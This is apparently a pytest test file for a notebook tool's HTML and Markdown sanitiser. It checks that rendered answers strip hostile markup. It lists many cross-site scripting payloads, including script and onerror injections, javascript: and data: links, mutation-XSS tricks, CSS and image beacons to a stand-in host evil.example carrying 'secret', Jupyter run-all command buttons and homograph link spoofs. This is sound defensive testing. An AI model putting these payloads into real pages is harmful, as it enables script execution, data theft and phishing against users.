"""Nothing hostile comes through, whether it is written as Markdown or as HTML."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nbreason.render.markdown import to_html
from nbreason.render.safe import destination, sanitise

from .markup import violations

EVIL = "https://evil.example/?q=secret"

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    f"<img src='{EVIL}'>",
    f"<img srcset='{EVIL} 2x' src=''>",
    "<img src=x onerror=&#97;lert(1)//",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<svg><use href='{EVIL}#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}'>",
    f"<link rel=prefetch href='{EVIL}'>",
    f"<style>@import url('{EVIL}');</style>",
    f"<style>body {{ background: url({EVIL}) }}</style>",
    f"<p style='background:url({EVIL})'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    f"<body background='{EVIL}'>",
    f"<table background='{EVIL}'><tr><td background='{EVIL}'>x</td></tr></table>",
    f"<video poster='{EVIL}' src='{EVIL}'></video>",
    f"<audio src='{EVIL}' autoplay></audio>",
    f"<source src='{EVIL}'>",
    f"<track src='{EVIL}'>",
    f"<input type=image src='{EVIL}'>",
    "<input autofocus onfocus=alert(1)>",
    f"<form action='{EVIL}'><button>Log in</button></form>",
    "<button data-commandlinker-command='notebook:run-all-below' data-commandlinker-args='{}'>go</button>",
    "<a href='#' data-commandlinker-command='notebook:run-all-below'>go</a>",
    "<span data-commandlinker-command=notebook:restart-and-run-all>go</span>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/lab/tree/x.ipynb'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://good.example\\@evil.example'>x</a>",
    f"<a href='{EVIL}' ping='{EVIL}' download target=_self rel=opener>x</a>",
    f"<base href='{EVIL}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<div id=jupyter-config-data>{}</div>",
    "<a id=Jupyter name=jupyterapp href='https://x.example'>x</a>",
    "<form id=document name=body><input name=cookie></form>",
    "<div class='jp-Dialog jp-mod-styled'>x</div>",
    "<pre class=mermaid>graph TD; A[<img src=x>]</pre>",
    "<div onclick=alert(1) onmouseover=alert(1) onpointerenter=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a href='https://x.example\"onclick=\"alert(1)'>x</a>",
    '"><img src=x onerror=alert(1)>',
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p is=x-y slot=a part=b>x</p>",
    "<img src='x'\x00 onerror=alert(1)>",
    "<\x00script>alert(1)</script>",
    "\u202e<b>\u2066x",
    "<a href='https://x.example/\u202egpj.exe'>x</a>",
    "<ol start='1 onclick=alert(1)'><li value=3>x</li></ol>",
    "\ud800<script>alert(1)</script>",
]

MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/lab)",
    "[x](#top)",
    "[x](https://good.example\\@evil.example)",
    "[x](https://good.example%5C@evil.example)",
    '[x](https://x.example"onmouseover=alert(1))',
    "[x](https://x.example '\" onmouseover=\"alert(1)')",
    '[x](https://x.example "<script>alert(1)</script>")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://x.example/"onclick=alert(1)>',
    f"![x]({EVIL})",
    f'![x]({EVIL} "t")',
    f"![x][r]\n\n[r]: {EVIL}",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '!["onerror=alert(1)](https://x.example)',
    f"[![x]({EVIL})](javascript:alert(1))",
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python' onclick='alert(1)\nx = '</code></pre><script>alert(1)</script>'\n```",
    "~~~{=html}\n<script>alert(1)</script>\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "$</span><img src=x onerror=alert(1)>$",
    "\\(\\text{</span><script>alert(1)</script>}\\)",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\[\n\\unicode{<svg onload=alert(1)>}\n\\]",
    "\\begin{align}</div><script>alert(1)</script>\\end{align}",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img onerror=alert(1)> | y |",
    "|a|\n|-|\n|<br onclick=alert(1)>|",
    "|a|\n|-|\n|<br/onclick=alert(1)//>|",
    "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>]\n\n[^"><script>]: x',
    "- [ ] <input onfocus=alert(1) autofocus>",
    "x{: onclick=alert(1) }",
    "*x*{onclick=alert(1)}",
    "[x](https://x.example){onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "&#60;script&#62;alert(1)",
    "\x02wzxhzdk:0\x03\n\n```\n</code><script>\n```",
    "&#2;wzxhzdk:0&#3;",
    "http://x.example/<script>alert(1)</script>",
    'www.evil.example/"onclick=alert(1)',
    '<a@b.example"onclick=alert(1)>',
]


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_hostile_html_does_not_come_through(payload: str) -> None:
    """As the sanitiser's own input, and in an answer, where all of it is text."""
    assert violations(sanitise(payload)) == []
    for text in (
        payload,
        f"- a\n  {payload}\n",
        f"> {payload}",
        f"| a |\n|---|\n| {payload} |",
        f"**{payload}**",
    ):
        assert violations(to_html(text)) == []


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_hostile_markdown_does_not_come_through(payload: str) -> None:
    assert violations(to_html(payload)) == []
    assert violations(to_html("1. a\n\n   " + payload.replace("\n", "\n   "))) == []


def test_the_watch_of_these_tests_bites() -> None:
    """Shown as it is, the hostile HTML is caught: all but what this parser takes for text."""
    missed = [payload for payload in HTML_PAYLOADS if not violations(payload)]

    assert missed == ["<img src=x onerror=&#97;lert(1)//"]


@pytest.mark.parametrize("tag", ["script", "img", "svg", "iframe", "style", "form", "button", "input", "object"])
def test_raw_html_in_an_answer_is_shown_as_text(tag: str) -> None:
    assert f"&lt;{tag} x&gt;" in to_html(f"a <{tag} x> b")


@pytest.mark.parametrize("text", [f"![a plot]({EVIL})", f"![a plot][r]\n\n[r]: {EVIL}"])
def test_an_image_becomes_a_link_with_its_host(text: str) -> None:
    html = to_html(text)

    assert "<img" not in html
    assert f'<a href="{EVIL}"' in html
    assert 'image: a plot</a><span class="nbr-host"> (evil.example)</span>' in html


def test_images_and_checkboxes_in_html_become_text() -> None:
    assert "image: a" in sanitise('<img alt="a" src="https://x.example/a.png">')
    assert sanitise('<input type="checkbox" checked>b<input type="checkbox">c') == "☑ b☐ c"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[docs](https://numpy.org/doc)", "(numpy.org)"),
        ("[numpy.org](https://numpy.org/doc)", ""),
        ("[https://numpy.org/doc](https://numpy.org/doc)", ""),
        ("[github.com](https://evil.example)", "(evil.example)"),
        ("[https://github.com/evil.example](https://evil.example)", "(evil.example)"),
        ("[github.com at evil.example](https://evil.example)", "(evil.example)"),
        ("[evil.example.github.com](https://evil.example)", "(evil.example)"),
        ("[x](https://github.com@evil.example/)", "(evil.example)"),
        ("[x](https://evil.example:8443/)", "(evil.example:8443)"),
        ("[x](https://münchen.example/)", "(xn--mnchen-3ya.example)"),
        ("[gіthub.com](https://xn--gthub-n4a.com)", "(xn--gthub-n4a.com)"),
        ("[x](mailto:a@evil.example?subject=y)", "(a@evil.example)"),
        ("[](https://evil.example)", "(evil.example)"),
        ("<https://evil.example/a>", ""),
        ("[www.numpy.org](https://numpy.org/doc)", ""),
        ("[numpy.org/doc and more](https://numpy.org/doc)", ""),
        ("[numpy.org.evil.example](https://numpy.org)", "(numpy.org)"),
        (r"[$\rlap{\phantom{ evil.example }}$www.bank.example](https://evil.example)", "(evil.example)"),
        ("[$evil.example$ www.bank.example](https://evil.example)", "(evil.example)"),
        ("[www\u2024bank\u2024example evil.example](https://evil.example)", "(evil.example)"),
        ("[www\uff0ebank\u3002example evil.example](https://evil.example)", "(evil.example)"),
        ("[evil\uff0eexample](https://evil.example)", "(evil.example)"),
        ("[a@evil.example](mailto:a@evil.example)", ""),
        ("[a@bank.example](mailto:a@evil.example)", "(a@evil.example)"),
    ],
)
def test_threat_22_the_host_of_a_link_is_in_sight(text: str, shown: str) -> None:
    html = to_html(text)

    assert "<a href=" in html
    assert bool(shown) == ("nbr-host" in html)
    assert f"{shown}</span>" in html or not shown


def test_threat_22_a_link_to_a_mailbox_fills_in_nothing() -> None:
    html = to_html("[x](mailto:a@evil.example?bcc=b@evil.example&body=secret)")
    assert '<a href="mailto:a@evil.example"' in html
    assert "secret" not in html


@pytest.mark.parametrize(
    "address",
    [
        "mailto:a@evil.example,b@evil.example",
        "mailto:a%0Abcc:b@evil.example",
        "",
        "x",
        "/x",
        "//x.example",
        "https:x.example",
        "https:/x.example",
        "https://",
        "https://x example",
        "https://x.example\\y",
        "https://x.example:port",
        "https://a%2Fb.example",
        "https://[::1",
        "javascript://x.example/%0aalert(1)",
        "mailto:",
    ],
)
def test_an_address_that_can_be_read_in_two_ways_is_no_link(address: str) -> None:
    assert destination(address) is None


def test_what_is_in_a_script_is_not_shown_either() -> None:
    assert sanitise("<script>alert(1)</script><style>p {}</style>x") == "x"


def test_an_answer_cannot_forge_the_marks_of_the_renderer() -> None:
    html = to_html("\x02wzxhzdk:0\x03 \x02b0\x03 \x02i0\x03 &#2;wzxhzdk:0&#3;\n\n- a\n\n```\nx\n```")

    assert html.count("<pre") == html.count("<li>") == 1


def test_sanitising_twice_changes_nothing() -> None:
    once = to_html(f"[a]({EVIL}) ![b]({EVIL}) `<c>` $d$ $5\n\n- [ ] e\n\n```python\nx = '&'\n```")

    assert once == sanitise(once)


def test_deeply_nested_html_is_shown_as_text_at_once() -> None:
    assert sanitise("<div>" * 100_000).startswith("&lt;div&gt;")


PARTS = st.sampled_from(
    (
        "<",
        ">",
        "</",
        "/>",
        "a",
        "b",
        "p",
        "svg",
        "math",
        "style",
        "script",
        "img",
        "table",
        "mglyph",
        "!--",
        "-->",
        " href=",
        " src=",
        " onerror=",
        " style=",
        " id=",
        " class=",
        "'",
        '"',
        "javascript:",
        "https://x.y",
        " ",
        "=",
        "&#106;",
    )
)


@settings(deadline=None, max_examples=300)
@given(st.one_of(st.text(), st.lists(PARTS, max_size=30).map("".join)))
def test_any_html_comes_out_clean(html: str) -> None:
    assert violations(sanitise(html)) == []
